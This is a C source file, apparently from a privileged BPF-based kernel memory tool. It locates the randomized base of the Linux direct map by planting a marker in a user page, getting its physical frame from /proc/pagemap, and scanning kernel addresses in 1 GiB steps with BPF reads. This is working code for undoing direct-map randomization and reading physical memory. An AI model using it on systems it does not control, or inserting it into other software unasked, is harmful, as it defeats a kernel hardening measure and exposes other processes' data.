// SPDX-License-Identifier: MIT
/* Where the direct map begins, learnt by looking for a page of one's own in it. */
#include "kernel/bpf.h"

#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

/* The direct map begins on a boundary of 1 GiB, also where it is randomized. */
#define STEP_BYTES (1ull << 30)
#define MOST_STEPS 16384u

static uint64_t base;

uint64_t frame_of(pid_t pid, const void *at)
{
	uint64_t entry = 0;
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/pagemap", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	if (pread(fd, &entry, sizeof(entry), (off_t)((uintptr_t)at / base_bytes() * sizeof(entry))) !=
	    sizeof(entry))
		entry = 0;
	close(fd);
	return entry >> 63 ? entry & ((1ull << 55) - 1) : 0;
}

uint64_t direct_map_alias(uint64_t frame)
{
	return base + frame * base_bytes();
}

const struct bpf_reading *direct_map_page(uint64_t frame)
{
	size_t bytes = base_bytes() < BPF_READ_BYTES ? base_bytes() : BPF_READ_BYTES;

	return bpf_read(READ_KERNEL, getpid(), direct_map_alias(frame), bytes, NULL);
}

/* From the boundary below a kernel object that lies in the direct map, downwards. */
static int find(const struct marker *marker, uint64_t frame)
{
	const struct bpf_reading *reading;

	base = bpf_task() & -STEP_BYTES;
	if (!base)
		return -1;
	for (unsigned int i = 0; i < MOST_STEPS; i++, base -= STEP_BYTES) {
		if (direct_map_alias(frame) < base)
			continue;
		reading = bpf_read(READ_KERNEL, getpid(), direct_map_alias(frame), MARKER_BYTES, NULL);
		if (reading && marker_found(marker, reading->data, MARKER_BYTES) == MARKER_BYTES)
			return 0;
	}
	base = 0;
	errno = ENXIO;
	return -1;
}

int direct_map_find(void)
{
	struct marker marker;
	uint64_t frame;
	int err = -1;
	char *page;

	if (base)
		return 0;
	page = pages_zeroed(base_bytes());
	if (!page)
		return -1;
	marker_draw(&marker);
	marker_plant(&marker, page);
	frame = frame_of(getpid(), page);
	if (frame)
		err = find(&marker, frame);
	else
		errno = EPERM;
	free(page);
	return err;
}
